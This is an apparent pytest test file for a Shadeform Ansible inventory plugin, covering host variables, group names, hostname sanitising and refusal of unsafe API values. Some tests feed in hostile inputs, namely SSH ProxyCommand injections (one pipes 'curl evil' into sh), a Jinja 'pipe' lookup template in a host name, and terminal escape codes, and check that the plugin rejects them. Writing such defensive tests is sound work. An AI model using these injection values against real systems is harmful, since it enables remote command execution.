# Copyright: Contributors to the shadeform.cloud collection
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The pure mapping from API instances to hosts: variables, groups, names, filters, redaction."""

import json

import pytest

from ansible import constants as C
from ansible.vars.reserved import get_reserved_names

from ansible_collections.shadeform.cloud.plugins.plugin_utils import hosts

from helpers import load_fixture


@pytest.fixture
def example():
    return load_fixture("instances-example.json")["instances"][0]


def test_labels_from_key_value_and_key_colon_value_tags():
    tags = ["env=prod", "team:ml", "plain", "=novalue", "url=http://x", 7, None, "env=staging", "empty="]
    assert hosts.parse_labels(tags) == {"env": "staging", "team": "ml", "url": "http://x", "empty": ""}
    assert hosts.parse_labels("env=prod") == {}


def test_host_variables_copy_every_field_and_add_shortcuts(example):
    variables, skipped, _refused = hosts.host_variables(example)

    assert skipped == []
    for field, value in example.items():
        assert variables["shadeform_" + field] == value
    assert variables["ansible_host"] == "1.0.0.1"
    assert variables["ansible_user"] == "shadeform"
    assert variables["ansible_port"] == 22
    assert variables["shadeform_gpu_type"] == "A100"
    assert variables["shadeform_num_gpus"] == 1
    assert variables["shadeform_gpu_manufacturer"] == "nvidia"
    assert variables["shadeform_vram_per_gpu_in_gb"] == 48
    assert variables["shadeform_labels"] == {}


def test_host_variables_prefix_and_suffix(example):
    variables, _skipped, _refused = hosts.host_variables(example, prefix="sf_", suffix="_api")
    assert variables["sf_id_api"] == example["id"]
    assert variables["sf_gpu_type_api"] == "A100"
    assert variables["sf_labels_api"] == {}
    assert not [name for name in variables if name.startswith("shadeform_")]


@pytest.mark.parametrize("fields, expected", [
    ({"ip": None, "ssh_user": None, "ssh_port": None}, {"ansible_host": hosts.NO_ADDRESS}),
    ({"ip": "", "ssh_user": "", "ssh_port": 0}, {"ansible_host": hosts.NO_ADDRESS}),
    ({"ip": "  ", "ssh_user": " ", "ssh_port": 70000}, {"ansible_host": hosts.NO_ADDRESS}),
    ({"ip": ["1.2.3.4"], "ssh_user": {"u": 1}, "ssh_port": True}, {"ansible_host": hosts.NO_ADDRESS}),
    ({"ip": "gpu.example.com", "ssh_user": "ubuntu", "ssh_port": "2222"}, {"ansible_host": "gpu.example.com", "ansible_user": "ubuntu", "ansible_port": 2222}),
    ({"ip": "10.0.0.1", "ssh_port": 22.5}, {"ansible_host": "10.0.0.1"}),
    ({"ssh_port": "\u00b2"}, {"ansible_host": hosts.NO_ADDRESS}),
])
def test_connection_variables_only_hold_usable_api_values(fields, expected):
    assert hosts.connection_variables(dict(fields, id="i-1"))[0] == expected


def test_fields_never_become_ansible_variables_nor_invalid_names():
    instance = {"id": "i-1", "ansible_connection": "local", "bad-name": 1, "{{x}}": 2, "ip": "1.2.3.4"}
    variables, skipped, _refused = hosts.host_variables(instance, prefix="", suffix="")
    assert "ansible_connection" not in variables
    assert variables["ansible_host"] == "1.2.3.4"
    assert variables["id"] == "i-1"
    assert sorted(skipped) == sorted(["ansible_connection", "bad-name", "{{x}}"])


def test_fields_never_take_a_magic_variable_or_template_global_name():
    reserved = ["omit", "item", "inventory_hostname", "group_names", "groups", "hostvars", "lookup", "q", "range", "undef"]
    instance = dict({"id": "i-1"}, **dict((name, "api") for name in reserved))
    variables, skipped, _refused = hosts.host_variables(instance, prefix="", suffix="")
    assert not set(reserved) & set(variables)
    assert sorted(skipped) == sorted(reserved)
    assert variables["id"] == "i-1"


def test_default_groups_use_ansible_safe_names(example):
    example["tags"] = ["env=prod", "tag1", "env:prod", "", None, 3]
    assert hosts.default_groups(example) == [
        "cloud_hyperstack", "region_canada_1", "gpu_A100", "status_active", "instance_type_A6000",
        "tag_env_prod", "tag_tag1", "tag_3",
    ]


def test_default_groups_skip_missing_and_odd_values():
    assert hosts.default_groups({"id": "i-1", "cloud": None, "region": {"x": 1}, "configuration": "A100", "tags": "x"}) == []


def test_assign_hostnames_unique_names_stay_and_duplicates_get_their_id():
    instances = [
        {"id": "bbbbbbbb-2", "name": "web"},
        {"id": "cccccccc-3", "name": "db"},
        {"id": "aaaaaaaa-1", "name": "web"},
    ]
    names, notes = hosts.assign_hostnames(instances)
    assert names == ["web-bbbbbbbb", "db", "web-aaaaaaaa"]
    assert len(notes) == 1 and "'web'" in notes[0]
    # Stable whatever the order the API lists them in.
    reversed_names, dummy = hosts.assign_hostnames(list(reversed(instances)))
    assert list(reversed(reversed_names)) == names


def test_assign_hostnames_never_collides_with_an_existing_name():
    instances = [
        {"id": "aaaaaaaa-1", "name": "web"},
        {"id": "aaaaaaaa-2", "name": "web"},
        {"id": "x", "name": "web-aaaaaaaa"},
    ]
    names, dummy = hosts.assign_hostnames(instances)
    assert len(set(names)) == 3
    assert names[2] == "web-aaaaaaaa"
    assert sorted(names[:2]) == ["web-aaaaaaaa-1", "web-aaaaaaaa-2"]


def test_assign_hostnames_same_id_and_name_still_two_hosts():
    names, dummy = hosts.assign_hostnames([{"id": "same", "name": "n"}, {"id": "same", "name": "n"}])
    assert len(set(names)) == 2


def test_assign_hostnames_sources_in_order_then_id():
    instances = [
        {"id": "i-1", "name": "", "ip": "1.2.3.4"},
        {"id": "i-2", "name": None, "ip": None},
        {"id": "i-3", "name": "named"},
        {"name": "", "cloud_assigned_id": None},
    ]
    names, dummy = hosts.assign_hostnames(instances, ["name", "ip"])
    assert names == ["1.2.3.4", "i-2", "named", "shadeform-instance"]
    names, dummy = hosts.assign_hostnames(instances, ["id"])
    assert names[:3] == ["i-1", "i-2", "i-3"]


def test_host_names_can_never_hold_a_template():
    names, dummy = hosts.assign_hostnames([{"id": "i-1", "name": "{{ lookup('pipe', 'id') }}"}, {"id": "i-2", "name": "a\nb"}])
    assert names == ["___lookup('pipe'__'id')___", "a_b"]


@pytest.mark.parametrize("reserved", ["localhost", "127.0.0.1", "::1", "all", "ungrouped"])
def test_names_ansible_reserves_are_never_host_names(reserved):
    names, notes = hosts.assign_hostnames([{"id": "abcdef012345", "name": reserved}, {"id": "i-2", "name": "ok"}])
    # "::1" keeps its colons only as a whole address: "::1-abcdef01" would be read as the patterns "" and "1-abcdef01".
    renamed = {"::1": "__1"}.get(reserved, reserved) + "-abcdef01"
    assert names == [renamed, "ok"]
    assert notes == ["Shadeform instances named %r, a name Ansible reserves or a group's name, are added as %s." % (reserved, renamed)]


def test_group_names_are_never_host_names():
    names, notes = hosts.assign_hostnames([{"id": "abcdef012345", "name": "tag_gpu"}, {"id": "i-2", "name": "ok"}], group_names={"tag_gpu"})
    assert names == ["tag_gpu-abcdef01", "ok"]
    assert "a group's name" in notes[0]


def test_host_names_have_no_whitespace_or_commas():
    names, dummy = hosts.assign_hostnames([{"id": "i-1", "name": "a b,c\td"}])
    assert names == ["a_b_c_d"]


def test_a_field_name_ending_in_a_newline_is_no_variable_name():
    variables, skipped, _refused = hosts.host_variables({"id": "i-1", "status\n": "x"})
    assert skipped == ["status\n"]
    assert "shadeform_status\n" not in variables


def mapping_options(**changes):
    options = dict(hostnames=["name"], hostvars_prefix="shadeform_", hostvars_suffix="", default_groups=True,
                   statuses=[], clouds=[], regions=[], gpu_types=[], tags=[])
    options.update(changes)
    return options


def mapping_of(instances, options, clusters=None, preferred=None):
    """The plugin's pure steps, in its order: host variables, then names and plain filters."""
    return hosts.inventory_hosts(hosts.fleet_variables(instances, options, clusters), options, preferred)


def test_inventory_hosts_maps_filters_and_warns_in_pure_steps(example):
    pending = dict(example, id="p-1", name="twin", status="pending", ip=None)
    active = dict(example, id="a-1", name="twin", omit="api")
    options = mapping_options(statuses=["active"], hostvars_prefix="")
    fleet = hosts.fleet_variables([pending, "odd", active], options)
    assert fleet.instances == [pending, active] and [variables["id"] for variables in fleet.variables] == ["p-1", "a-1"]
    mapping = hosts.inventory_hosts(fleet, options)
    [(name, variables, groups)] = mapping.hosts
    assert name == "twin-a-1" and variables["ansible_host"] == "1.0.0.1" and "omit" not in variables
    assert variables is fleet.variables[1]  # passed on as the plugin gave them (marked untrusted before 2.19)
    assert "status_active" in groups
    assert mapping.warnings[0] == "Skipping Shadeform instance #2: the API gave str, not an object."
    assert "would be named 'twin'" in mapping.warnings[1] and "'omit'" in mapping.warnings[2]
    assert mapping.details == []


def test_inventory_hosts_without_default_groups_and_with_preferred_names(example):
    [(_name, _variables, groups)] = mapping_of([example], mapping_options(default_groups=False)).hosts
    assert groups == []
    second = dict(example, id="i-2")
    mapping = mapping_of([example, second], mapping_options(), preferred=[None, "gpu:i-2"])
    assert [name for name, _variables, _groups in mapping.hosts] == ["cool-gpu-server", "gpu_i-2"]


# --- API values that are no address, user or port (ssh_endpoint is the one parser) -----------------------------------

@pytest.mark.parametrize("fields, expected, refused", [
    ({"ip": "-oProxyCommand=touch /tmp/x", "ssh_user": "ubuntu", "ssh_port": 22},
     {"ansible_host": hosts.NO_ADDRESS, "ansible_user": "ubuntu", "ansible_port": 22}, ("ip",)),
    ({"ip": "10.0.0.1", "ssh_user": "-oBatchMode=no", "ssh_port": "18022"}, {"ansible_host": "10.0.0.1", "ansible_port": 18022},
     ("ssh_user",)),
    ({"ip": "10.0.0.1 -p 2", "ssh_user": "root@evil", "ssh_port": "22 -v"}, {"ansible_host": hosts.NO_ADDRESS},
     ("ip", "ssh_user", "ssh_port")),
    ({"ip": "gpu.example.com\n", "ssh_user": None, "ssh_port": None}, {"ansible_host": "gpu.example.com"}, ()),
])
def test_connection_variables_refuse_values_ssh_could_read_as_options(fields, expected, refused):
    assert hosts.connection_variables(dict(fields, id="i-1")) == (expected, refused)


def test_a_refused_ssh_value_is_one_warning_naming_host_and_field_never_the_raw_value(example):
    hostile = dict(example, id="h-1", name="gpu\x1b[31m", ip="-oProxyCommand=curl evil|sh", ssh_port="x\x9b2J")
    mapping = mapping_of([hostile, dict(example, id="h-2", name="fine")], mapping_options())
    [warning] = [text for text in mapping.warnings if "not used" in text]
    assert "Shadeform host 'gpu__31m': its ip and ssh_port from the API are not a valid IP address or host name / port" in warning
    assert "-oProxyCommand" not in warning and "\x1b" not in warning and "\x9b" not in warning
    assert dict((name, variables["ansible_host"]) for name, variables, _groups in mapping.hosts) == {
        "gpu__31m": hosts.NO_ADDRESS, "fine": "1.0.0.1"}


def test_refused_ssh_values_of_a_large_fleet_are_summed_up(example):
    fleet = [dict(example, id="h-%d" % index, name="h%d" % index, ip="-o%d" % index) for index in range(10)]
    warnings = [text for text in mapping_of(fleet, mapping_options()).warnings if "not used" in text]
    assert len(warnings) == hosts.MAX_RENAME_WARNINGS + 1 and warnings[-1].startswith("7 more Shadeform hosts")


# --- Control characters, NaN, reserved names, dollars ----------------------------------------------------------------

def test_c1_control_characters_never_reach_host_or_group_names(example):
    odd = dict(example, name="a\x9b31mb\x85c\x7f", tags=["t\x9b1"], region="r\x1bx")
    [(name, _variables, groups)] = mapping_of([odd], mapping_options()).hosts
    assert name == "a_31mb_c_"
    assert not [group for group in groups if any(0x7f <= ord(char) <= 0x9f or ord(char) < 0x20 for char in group)], groups
    assert "tag_t_1" in groups and "region_r_x" in groups


def test_nan_and_infinity_are_absent_fields_with_one_warning(example):
    odd = dict(example, id="n-1", hourly_price=float("nan"), ssh_port=float("inf"),
               configuration=dict(example["configuration"], vcpus=float("-inf")), tags=["a", float("nan")])
    finite, warning = hosts.without_non_finite([odd, dict(example, id="n-2", name="fine")])
    mapping = mapping_of(finite, mapping_options())
    (_name, variables, _groups), (_fine, fine, _fine_groups) = mapping.hosts
    for name in ("shadeform_hourly_price", "shadeform_hourly_price_usd", "ansible_port", "shadeform_ssh_port"):
        assert name not in variables
    assert "vcpus" not in variables["shadeform_configuration"] and variables["shadeform_tags"] == ["a", None]
    assert fine["shadeform_hourly_price"] == 210
    assert "NaN or Infinity" in warning and "'n-1': " in warning and all(path in warning.split(": ", 2)[2].split(", ") for path in (
        "hourly_price", "ssh_port", "configuration.vcpus", "tags.1"))
    assert odd["hourly_price"] != odd["hourly_price"]  # the input is left alone
    json.dumps([variables, fine], allow_nan=False)


def test_finite_instances_are_passed_on_as_they_are(example):
    instances = [example]
    assert hosts.without_non_finite(instances) == (instances, None)
    assert hosts.without_non_finite(instances)[0] is instances


@pytest.mark.parametrize("name", ["name", "loop", "tags", "port", "when", "environment", "become", "vars", "hosts", "lookup", "omit",
                                  "inventory_hostname", "item"])
def test_reserved_names_come_from_ansible_core(name):
    assert name in hosts.RESERVED_VARIABLE_NAMES
    assert name in get_reserved_names() or name in C.INTERNAL_STATIC_VARS or name in ("lookup", "omit", "item")


@pytest.mark.parametrize("fields, expected", [
    ({"hourly_price": 210}, 2.1),
    ({"hourly_price": 0}, 0.0),
    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot", "hourly_price": "0.85", "ending_at": None}}, 0.85),
    ({"hourly_price": 210, "rental_terms": {"rental_type": "on_demand", "hourly_price": "2.10"}}, 2.1),
    ({"hourly_price": 9900, "rental_terms": {"rental_type": "commitment", "ending_at": "2027-01-01T00:00:00Z"}}, 99.0),
    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot", "hourly_price": "nan"}}, None),
    ({"hourly_price": 210, "rental_terms": {"rental_type": "spot"}}, None),
    ({"hourly_price": "210"}, None),
    ({"hourly_price": -5}, None),
    ({"hourly_price": True}, None),
    ({}, None),
])
def test_hourly_price_usd_is_dollars_and_the_api_field_keeps_its_cents(example, fields, expected):
    instance = dict(example, **fields)
    if "hourly_price" not in fields:
        del instance["hourly_price"]
    variables = hosts.host_variables(instance).variables
    if expected is None:
        assert "shadeform_hourly_price_usd" not in variables
    else:
        assert variables["shadeform_hourly_price_usd"] == expected and isinstance(variables["shadeform_hourly_price_usd"], float)
    assert variables.get("shadeform_hourly_price") == fields.get("hourly_price")
    assert "sf_hourly_price_usd_x" in hosts.host_variables(dict(example), prefix="sf_", suffix="_x").variables


@pytest.fixture
def cluster():
    return load_fixture("clusters-example.json")["clusters"][0]


@pytest.mark.parametrize("members_listed", [False, True])
def test_cluster_members_are_one_host_each_in_the_clusters_group_whether_listed_or_not(example, cluster, members_listed):
    instances = [example] + (cluster["instances"] if members_listed else [])
    mapping = mapping_of(instances, mapping_options(), clusters=[cluster])
    by_name = dict((name, (variables, groups)) for name, variables, groups in mapping.hosts)
    assert sorted(by_name) == ["cool-gpu-server", "trainers-0", "trainers-1"] and not mapping.warnings
    for index, name in enumerate(("trainers-0", "trainers-1")):
        variables, groups = by_name[name]
        assert "cluster_trainers_run_1" in groups and "gpu_H100" in groups
        assert variables["shadeform_cluster_id"] == cluster["id"] and variables["shadeform_cluster_name"] == "trainers run/1"
        assert variables["shadeform_id"] == cluster["instances"][index]["id"] and variables["ansible_host"] == cluster["instances"][index]["ip"]
    assert "shadeform_cluster_id" not in by_name["cool-gpu-server"][0]
    assert not any(group.startswith("cluster_") for group in by_name["cool-gpu-server"][1])


def test_cluster_members_take_the_filters_prefix_and_default_groups_of_every_host(example, cluster):
    renamed = dict(cluster, name=None, instances=[dict(cluster["instances"][0], status="pending", ip=None), cluster["instances"][1]])
    mapping = mapping_of([example], mapping_options(statuses=["active"], hostvars_prefix="sf_"), clusters=[renamed, "odd"])
    [member] = [(name, variables, groups) for name, variables, groups in mapping.hosts if name.startswith("trainers")]
    assert member[0] == "trainers-1" and member[1]["sf_cluster_id"] == cluster["id"] and member[1]["sf_cluster_name"] is None
    assert "cluster_" + cluster["id"].replace("-", "_") in member[2]  # no name: the group is named after the id
    assert mapping_of([example], mapping_options(default_groups=False), clusters=[cluster]).hosts[1][2] == []


def test_a_cluster_named_like_a_host_does_not_take_the_hosts_name(example, cluster):
    clash = dict(example, id="c-1", name="cluster_trainers_run_1")
    names = [name for name, _variables, _groups in mapping_of([clash], mapping_options(), clusters=[cluster]).hosts]
    assert names == ["cluster_trainers_run_1-c-1", "trainers-0", "trainers-1"]


@pytest.mark.parametrize("name, expected", [
    ("gpu:a100", "gpu_a100"), ("!prod", "_prod"), ("&prod", "_prod"), ("~re", "_re"), ("@file", "_file"),
    ("-lead", "_lead"), ("a]b", "a_b"), ("gpu[0:1]", "gpu_0_1_"), ("x,y", "x_y"), ("a!b&c~d@e-f", "a!b&c~d@e-f"),
    (" {{ x }} ", "___x___"), ("2001:db8::5", "2001:db8::5"), ("a*?.b", "a*?.b"), ("fe80::1%eth0", "fe80__1%eth0"),
])
def test_pattern_syntax_is_replaced_deterministically(name, expected):
    assert hosts.safe_hostname(name) == expected
